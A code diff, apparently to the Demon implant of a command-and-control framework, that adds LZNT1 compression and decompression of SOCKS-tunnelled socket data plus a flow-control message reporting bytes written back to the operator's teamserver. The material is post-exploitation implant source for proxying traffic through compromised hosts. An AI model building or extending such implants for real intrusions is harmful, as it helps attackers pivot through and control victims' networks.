@@ -285,6 +285,7 @@ VOID SocketRead()
     PVOID        NewBuffer   = NULL;
     BUFFER       PartialData = { 0 };
     BUFFER       FullData    = { 0 };
+    BUFFER       Frame       = { 0 };
     BOOL         Failed      = FALSE;
     DWORD        ErrorCode   = 0;
 
@@ -376,6 +377,31 @@ VOID SocketRead()
             {
                 PRINTF( "Read %ld bytes from socket %x\n", FullData.Length, Socket->ID )
 
+                /* the teamserver expects compressed frames from this socket */
+                if ( Socket->Flags & SOCKET_FLAG_COMPRESS )
+                {
+                    if ( SocketCompress( &FullData, &Frame ) )
+                    {
+                        MemSet( FullData.Buffer, 0, FullData.Length );
+                        MmHeapFree( FullData.Buffer );
+
+                        FullData     = Frame;
+                        Frame.Buffer = NULL;
+                        Frame.Length = 0;
+                    }
+                    else
+                    {
+                        Failed    = TRUE;
+                        ErrorCode = ERROR_NOT_ENOUGH_MEMORY;
+
+                        MemSet( FullData.Buffer, 0, FullData.Length );
+                        FullData.Length = 0;
+                    }
+                }
+            }
+
+            if ( FullData.Length > 0 )
+            {
                 /* Create socket request package */
                 Package = PackageCreate( DEMON_COMMAND_SOCKET );
 
@@ -422,6 +448,125 @@ VOID SocketRead()
     }
 }
 
+/* tell the teamserver how much we wrote to the socks targets
+ * so it lets the clients send more (see SOCKET_FLAG_WINDOW) */
+VOID SocketWindow()
+{
+    PPACKAGE     Package = NULL;
+    PSOCKET_DATA Socket  = Instance->Sockets;
+
+    for ( ; Socket; Socket = Socket->Next )
+    {
+        if ( Socket->ShouldRemove || ! Socket->Written ) {
+            continue;
+        }
+
+        Package = PackageCreate( DEMON_COMMAND_SOCKET );
+
+        PackageAddInt32( Package, SOCKET_COMMAND_WINDOW );
+        PackageAddInt32( Package, Socket->ID );
+        PackageAddInt32( Package, Socket->Written );
+
+        PackageTransmit( Package );
+
+        Socket->Written = 0;
+    }
+}
+
+BOOL SocketCompress(
+    IN  PBUFFER Data,
+    OUT PBUFFER Frame
+) {
+    PVOID    WorkSpace     = NULL;
+    ULONG    WorkSpaceSize = 0;
+    ULONG    FragmentSize  = 0;
+    ULONG    Compressed    = 0;
+    NTSTATUS NtStatus      = STATUS_UNSUCCESSFUL;
+
+    /* a chunk doesn't grow by more than its header */
+    Frame->Length = sizeof( UINT32 ) + Data->Length + ( Data->Length / 0x1000 + 2 ) * sizeof( USHORT );
+    Frame->Buffer = MmHeapAlloc( Frame->Length );
+
+    if ( ! Frame->Buffer ) {
+        Frame->Length = 0;
+        return FALSE;
+    }
+
+    MemCopy( Frame->Buffer, &Data->Length, sizeof( UINT32 ) );
+
+    if ( Instance->Win32.RtlGetCompressionWorkSpaceSize && Instance->Win32.RtlCompressBuffer &&
+         NT_SUCCESS( Instance->Win32.RtlGetCompressionWorkSpaceSize( COMPRESSION_FORMAT_LZNT1 | COMPRESSION_ENGINE_STANDARD, &WorkSpaceSize, &FragmentSize ) ) &&
+         ( WorkSpace = MmHeapAlloc( WorkSpaceSize ) ) )
+    {
+        NtStatus = Instance->Win32.RtlCompressBuffer(
+            COMPRESSION_FORMAT_LZNT1 | COMPRESSION_ENGINE_STANDARD,
+            Data->Buffer,
+            Data->Length,
+            C_PTR( U_PTR( Frame->Buffer ) + sizeof( UINT32 ) ),
+            Frame->Length - sizeof( UINT32 ),
+            0x1000,
+            &Compressed,
+            WorkSpace
+        );
+
+        MmHeapFree( WorkSpace );
+    }
+
+    /* didn't get any smaller (or all zeros). send it as is */
+    if ( NtStatus != STATUS_SUCCESS || Compressed >= Data->Length )
+    {
+        MemCopy( C_PTR( U_PTR( Frame->Buffer ) + sizeof( UINT32 ) ), Data->Buffer, Data->Length );
+        Compressed = Data->Length;
+    }
+
+    Frame->Length = sizeof( UINT32 ) + Compressed;
+
+    return TRUE;
+}
+
+BOOL SocketDecompress(
+    IN  PBUFFER Frame,
+    OUT PBUFFER Data
+) {
+    UINT32 Size  = 0;
+    ULONG  Final = 0;
+
+    if ( Frame->Length < sizeof( UINT32 ) ) {
+        return FALSE;
+    }
+
+    MemCopy( &Size, Frame->Buffer, sizeof( UINT32 ) );
+
+    if ( ! ( Data->Buffer = MmHeapAlloc( Size + 1 ) ) ) {
+        return FALSE;
+    }
+
+    Data->Length = Size;
+
+    if ( Size == Frame->Length - sizeof( UINT32 ) )
+    {
+        MemCopy( Data->Buffer, C_PTR( U_PTR( Frame->Buffer ) + sizeof( UINT32 ) ), Size );
+        return TRUE;
+    }
+
+    if ( Instance->Win32.RtlDecompressBuffer && NT_SUCCESS( Instance->Win32.RtlDecompressBuffer(
+        COMPRESSION_FORMAT_LZNT1,
+        Data->Buffer,
+        Size,
+        C_PTR( U_PTR( Frame->Buffer ) + sizeof( UINT32 ) ),
+        Frame->Length - sizeof( UINT32 ),
+        &Final
+    ) ) && Final == Size ) {
+        return TRUE;
+    }
+
+    MmHeapFree( Data->Buffer );
+    Data->Buffer = NULL;
+    Data->Length = 0;
+
+    return FALSE;
+}
+
 VOID SocketFree( PSOCKET_DATA Socket )
 {
     PPACKAGE Package = NULL;
@@ -527,6 +672,9 @@ VOID SocketPush()
     /* Read data from the clients and send it to our server/forwarded host */
     SocketRead();
 
+    /* acknowledge what has been written to the socks targets */
+    SocketWindow();
+
     /* kill every dead/removed socket */
     SocketCleanDead();
 }